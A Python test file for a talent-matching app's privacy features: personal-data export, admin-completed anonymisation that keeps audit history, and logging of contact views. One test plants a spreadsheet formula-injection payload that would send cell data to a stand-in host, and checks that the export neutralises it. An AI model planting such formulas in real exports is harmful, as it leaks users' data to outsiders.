"""Personal data under 个人信息保护法: a talent downloads everything held about them and
asks for deletion; an admin anonymises the person while every count and the audit trail
stay intact; reading someone's contact details is logged."""

from __future__ import annotations

import io

from fastapi.testclient import TestClient
from openpyxl import load_workbook
from sqlalchemy import func, select
from sqlalchemy.orm import Session

from models import AuditEvent, Match, Talent, User
from tests.conftest import DEMO_PASSWORD
from tests.http_fixtures import Login
from tests.service.helpers import first_candidate, post_need, talent_user


def _talent_of(session: Session, username: str) -> Talent:
    talent_id = session.scalars(select(User.talent_id).where(User.username == username)).one()
    talent = session.get(Talent, talent_id)
    assert talent is not None
    return talent


def _approved_match(client: TestClient, login: Login, session: Session) -> tuple[int, int]:
    """A need of site1 approved for its first candidate: (match id, talent id)."""
    site = login("site1")
    need = post_need(client, site)
    talent_id = first_candidate(client, site, need["id"])["talent"]["id"]
    talent = login(talent_user(session, talent_id))
    match = client.post(
        "/api/v1/matches", json={"need_id": need["id"], "talent_id": talent_id}, headers=talent
    ).json()
    assert client.post(f"/api/v1/matches/{match['id']}/accept", headers=site).status_code == 200
    approved = client.post(f"/api/v1/matches/{match['id']}/approve", headers=login("county"))
    assert approved.status_code == 200, approved.text
    return match["id"], talent_id


def test_a_talent_downloads_everything_held_about_them(
    client: TestClient, login: Login, session: Session
) -> None:
    talent = _talent_of(session, "talent1")
    headers = login("talent1")
    data = client.get("/api/v1/me/personal-data", headers=headers)
    assert data.status_code == 200, data.text
    body = data.json()
    assert body["profile"]["name"] == talent.name
    assert body["profile"]["phone"] == talent.phone
    assert [a["username"] for a in body["accounts"]] == ["talent1"]
    assert "password_hash" not in body["accounts"][0]
    held = session.scalar(select(func.count()).where(Match.talent_id == talent.id))
    assert len(body["matches"]) == held

    sheet = client.get("/api/v1/me/personal-data", params={"format": "xlsx"}, headers=headers)
    assert sheet.status_code == 200
    book = load_workbook(io.BytesIO(sheet.content))
    assert book.sheetnames[0] == "个人资料"
    profile = book["个人资料"]
    header = [c.value for c in profile[1]]
    row = [c.value for c in profile[2]]
    assert row[header.index("姓名(name)")] == talent.name


def test_only_a_talent_has_personal_data_to_download(client: TestClient, login: Login) -> None:
    for who in ("site1", "county", "admin"):
        response = client.get("/api/v1/me/personal-data", headers=login(who))
        assert response.status_code == 403, who
        assert response.json()["error"]["code"] == "forbidden"
    assert client.get("/api/v1/me/personal-data").status_code == 401


def test_formula_text_in_a_profile_stays_text_in_the_download(
    client: TestClient, login: Login, session: Session
) -> None:
    talent = _talent_of(session, "talent2")
    talent.bio = '=HYPERLINK("http://example.invalid/?x="&A1,"点击")'
    session.commit()
    sheet = client.get(
        "/api/v1/me/personal-data", params={"format": "xlsx"}, headers=login("talent2")
    )
    profile = load_workbook(io.BytesIO(sheet.content))["个人资料"]
    header = [c.value for c in profile[1]]
    cell = profile.cell(row=2, column=header.index("个人简介(bio)") + 1)
    assert cell.data_type == "s"
    assert cell.value == "'" + talent.bio


def test_deletion_is_requested_once_and_completed_by_an_admin(
    client: TestClient, login: Login, session: Session
) -> None:
    match_id, talent_id = _approved_match(client, login, session)
    username = talent_user(session, talent_id)
    talent_headers = login(username)
    matches_before = session.scalar(select(func.count()).where(Match.talent_id == talent_id))

    first = client.post(
        "/api/v1/me/deletion-request", json={"reason": "不再参与"}, headers=talent_headers
    )
    assert first.status_code == 201, first.text
    assert first.json()["status"] == "pending"
    again = client.post("/api/v1/me/deletion-request", json={}, headers=talent_headers)
    assert again.status_code == 409
    assert "already waiting" in again.json()["error"]["message"]

    # Nobody but an admin lists or completes requests.
    for who in ("county", "site1", username):
        assert client.get("/api/v1/deletion-requests", headers=login(who)).status_code == 403
    admin = login("admin")
    listed = client.get("/api/v1/deletion-requests", params={"status": "pending"}, headers=admin)
    assert first.json()["id"] in [r["id"] for r in listed.json()["items"]]
    refused = client.post(
        f"/api/v1/deletion-requests/{first.json()['id']}/complete", headers=login("county")
    )
    assert refused.status_code == 403

    done = client.post(f"/api/v1/deletion-requests/{first.json()['id']}/complete", headers=admin)
    assert done.status_code == 200, done.text
    assert done.json()["status"] == "completed"
    twice = client.post(f"/api/v1/deletion-requests/{first.json()['id']}/complete", headers=admin)
    assert twice.status_code == 409

    session.expire_all()
    talent = session.get(Talent, talent_id)
    assert talent is not None
    assert (talent.name, talent.phone, talent.email, talent.id_number) == (
        "已注销人员",
        None,
        None,
        None,
    )
    assert not talent.active and talent.windows == []
    # Counts and history stay: the match is still there, approved, with its events.
    assert (
        session.scalar(select(func.count()).where(Match.talent_id == talent_id)) == matches_before
    )
    match = session.get(Match, match_id)
    assert match is not None and match.status == "approved"
    # The person can no longer log in, and a token they still hold is refused.
    login_again = client.post(
        "/api/v1/auth/login", json={"username": username, "password": DEMO_PASSWORD}
    )
    assert login_again.status_code == 401
    assert client.get("/api/v1/auth/me", headers=talent_headers).status_code == 401
    # The audit names which fields were cleared, never their old values.
    event = session.scalars(
        select(AuditEvent).where(
            AuditEvent.action == "privacy.anonymised", AuditEvent.entity_id == talent_id
        )
    ).one()
    assert event.after is not None and "phone" in event.after["cleared"]
    assert "已注销人员" not in str(event.after)


def test_reading_contact_details_is_logged(
    client: TestClient, login: Login, session: Session
) -> None:
    match_id, _ = _approved_match(client, login, session)
    site = login("site1")
    site_id = session.scalars(select(User.id).where(User.username == "site1")).one()

    def logged() -> int:
        return (
            session.scalar(
                select(func.count()).where(
                    AuditEvent.action == "privacy.contact_viewed",
                    AuditEvent.entity_id == match_id,
                    AuditEvent.actor_id == site_id,
                )
            )
            or 0
        )

    before = logged()
    view = client.get(f"/api/v1/matches/{match_id}", headers=site)
    assert view.json()["talent_contact"]["phone"]
    assert logged() == before + 1
